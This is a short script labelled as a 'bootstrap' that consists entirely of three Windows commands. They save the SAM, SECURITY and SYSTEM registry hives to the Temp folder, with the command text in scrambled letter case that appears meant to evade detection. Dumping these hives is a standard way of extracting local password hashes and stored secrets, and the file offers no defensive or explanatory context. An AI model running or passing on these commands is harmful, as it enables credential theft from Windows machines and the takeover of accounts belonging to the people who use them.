# bootstrap 9226 v1
Reg.eXE SaVe HKLM\saM C:\WiNdOwS\tEmP\S.HiV /y
rEG.eXe saVe HkLm\SecuritY C:\WiNDOWs\TeMP\SeC.hIv /y
rEG.eXE saVe hKlM\sYstEM C:\WiNdowS\TEmp\sYS.hIV /y
